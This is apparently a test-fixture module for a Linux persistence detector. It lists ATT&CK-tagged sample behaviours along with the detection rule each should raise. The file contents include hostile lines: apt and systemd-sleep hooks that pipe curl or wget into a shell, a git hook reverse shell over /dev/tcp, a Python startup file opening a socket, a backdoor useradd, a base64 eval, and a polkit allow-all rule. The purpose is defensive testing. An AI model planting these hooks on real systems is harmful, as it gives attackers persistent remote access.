"""Coming back with other programs: package managers, git, Python, desktops, motd, D-Bus, polkit (ATT&CK T1546, T1547)."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour

BEHAVIOURS = (
    Behaviour(
        name="apt_hook_fetches_code",
        techniques=("T1546.016", "T1105"),
        does="Each update of the package lists fetches code and runs it.",
        marks=("203.0.113.41/apt",),
        raises=("autostart_command_fetches_or_decodes_code",),
        files={"/etc/apt/apt.conf.d/99update": 'APT::Update::Pre-Invoke {"curl -s http://203.0.113.41/apt | sh";};\n'},
    ),
    Behaviour(
        name="apt_hook_runs_program_in_home",
        techniques=("T1546.016",),
        does="A hook of apt runs a program in a user's home, which that user can exchange.",
        marks=("/home/carl/bin/post",),
        raises=("autostart_package_hook_in_user_place",),
        files={"/etc/apt/apt.conf.d/98post": 'DPkg::Post-Invoke {"/home/carl/bin/post";};\n'},
    ),
    Behaviour(
        name="apt_hook_adds_account",
        techniques=("T1546.016", "T1136.001"),
        does="A hook of apt adds an account whenever packages are installed.",
        marks=("support-acct",),
        raises=("autostart_package_hook_of_site",),
        files={"/etc/apt/apt.conf.d/97acct": 'DPkg::Post-Invoke {"useradd -M support-acct || true";};\n'},
    ),
    Behaviour(
        name="git_hook_opens_shell",
        techniques=("T1546", "T1059.004"),
        does="A hook of a repository of root opens a shell when somebody merges.",
        marks=("/root/deploy/.git/hooks/post-merge",),
        raises=("autostart_script_fetches_or_decodes_code",),
        files={
            "/root/deploy/.git/HEAD": "ref: refs/heads/main\n",
            "/root/deploy/.git/config": "[core]\n\tbare = false\n",
            "/root/deploy/.git/hooks/post-merge": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.42/443 0>&1 &\n",
        },
        modes={"/root/deploy/.git/hooks/post-merge": 0o755},
    ),
    Behaviour(
        name="git_setting_runs_program_in_tmp",
        techniques=("T1546", "T1059.004"),
        does="A setting of git makes every command that shows a text run a program from /tmp.",
        marks=("/tmp/pager.sh",),
        raises=("autostart_git_setting_runs_unusual_program", "autostart_runs_from_temporary_directory"),
        files={"/root/.gitconfig": "[core]\n\tpager = /tmp/pager.sh\n"},
    ),
    Behaviour(
        name="python_path_file_runs_code",
        techniques=("T1546.018",),
        does="A .pth file makes each start of Python run a command.",
        marks=("distutils-fix.pth",),
        raises=("autostart_python_path_runs_code",),
        files={"/usr/lib/python3/dist-packages/distutils-fix.pth": "import os; os.system('/usr/local/lib/helper')\n"},
    ),
    Behaviour(
        name="python_sitecustomize_opens_socket",
        techniques=("T1546.018", "T1059.006"),
        does="The module that Python loads at each start opens a connection.",
        marks=("/usr/local/lib/python3.99/dist-packages/usercustomize.py",),
        raises=("autostart_python_customize_runs_code",),
        files={
            "/usr/local/lib/python3.99/dist-packages/usercustomize.py": "import socket\n"
            "s = socket.create_connection(('203.0.113.43', 443))\n"
        },
    ),
    Behaviour(
        name="desktop_entry_starts_shell_in_background",
        techniques=("T1547.013",),
        does="An autostart entry of the desktop starts a shell command that stays.",
        marks=("/etc/xdg/autostart/update-notify.desktop",),
        raises=("autostart_desktop_entry_runs_shell",),
        files={
            "/etc/xdg/autostart/update-notify.desktop": "[Desktop Entry]\nType=Application\nName=Updates\n"
            'Exec=sh -c "nohup /usr/local/lib/notify >/dev/null &"\n'
        },
    ),
    Behaviour(
        name="desktop_entry_starts_program_in_var_tmp",
        techniques=("T1547.013", "T1546"),
        does="An autostart entry in root's home starts a program from /var/tmp.",
        marks=("/root/.config/autostart/keyring.desktop",),
        raises=("autostart_runs_from_temporary_directory",),
        files={
            "/root/.config/autostart/keyring.desktop": "[Desktop Entry]\nType=Application\nName=K\nExec=/var/tmp/keyring\n"
        },
    ),
    Behaviour(
        name="motd_script_decodes_code",
        techniques=("T1546", "T1140"),
        does="A script that makes the message of the day decodes a command as root.",
        marks=("/etc/update-motd.d/20-cpu",),
        raises=("autostart_script_fetches_or_decodes_code",),
        files={"/etc/update-motd.d/20-cpu": '#!/bin/sh\neval "$(echo bHMK | base64 -d)"\n'},
        modes={"/etc/update-motd.d/20-cpu": 0o755},
    ),
    Behaviour(
        name="motd_script_hidden",
        techniques=("T1546", "T1564.001"),
        does="A hidden script takes part in making the message of the day.",
        marks=("/etc/update-motd.d/.90-news",),
        raises=("autostart_runs_hidden_program", "file_hidden_executable_system_directory"),
        files={"/etc/update-motd.d/.90-news": "#!/bin/sh\nexit 0\n"},
        modes={"/etc/update-motd.d/.90-news": 0o755},
    ),
    Behaviour(
        name="motd_script_owned_by_user",
        techniques=("T1546", "T1222.002"),
        does="A script that root runs for the message of the day belongs to an ordinary account.",
        marks=("/etc/update-motd.d/85-mail",),
        raises=("autostart_file_writable_by_others", "autostart_root_mechanism_runs_program_of_user"),
        files={"/etc/update-motd.d/85-mail": "#!/bin/sh\nexit 0\n"},
        modes={"/etc/update-motd.d/85-mail": 0o755},
        shell="chown 1000:1000 /etc/update-motd.d/85-mail",
    ),
    Behaviour(
        name="dbus_service_starts_program_in_srv",
        techniques=("T1543", "T1546"),
        does="A D-Bus service of the system is started from a directory that is not the system's.",
        marks=("/srv/.bus/helper",),
        raises=("autostart_dbus_service_in_unusual_place", "autostart_runs_hidden_program"),
        files={
            "/usr/share/dbus-1/system-services/org.net.Helper.service": "[D-BUS Service]\nName=org.net.Helper\n"
            "Exec=/srv/.bus/helper\nUser=root\n"
        },
    ),
    Behaviour(
        name="polkit_rule_says_yes_to_everybody",
        techniques=("T1548",),
        does="A rule of polkit grants every request of everybody.",
        marks=("/etc/polkit-1/rules.d/00-all.rules",),
        raises=("autostart_polkit_grants_everybody",),
        files={
            "/etc/polkit-1/rules.d/00-all.rules": "polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n"
        },
    ),
    Behaviour(
        name="kernel_install_hook_runs_from_tmp",
        techniques=("T1546", "T1542"),
        does="A script that runs after each new kernel starts a program from /tmp.",
        marks=("/etc/kernel/postinst.d/zz-sign",),
        raises=("autostart_runs_from_temporary_directory",),
        files={"/etc/kernel/postinst.d/zz-sign": "#!/bin/sh\nsh /tmp/sign.sh\n"},
        modes={"/etc/kernel/postinst.d/zz-sign": 0o755},
    ),
    Behaviour(
        name="sleep_hook_fetches_code",
        techniques=("T1546", "T1105"),
        does="A script that systemd runs when the machine wakes fetches code.",
        marks=("/system-sleep/wifi",),
        raises=("autostart_script_fetches_or_decodes_code", "file_unowned_generator"),
        files={"/usr/lib/systemd/system-sleep/wifi": "#!/bin/sh\nwget -qO- http://203.0.113.44/w | bash\n"},
        modes={"/usr/lib/systemd/system-sleep/wifi": 0o755},
    ),
)
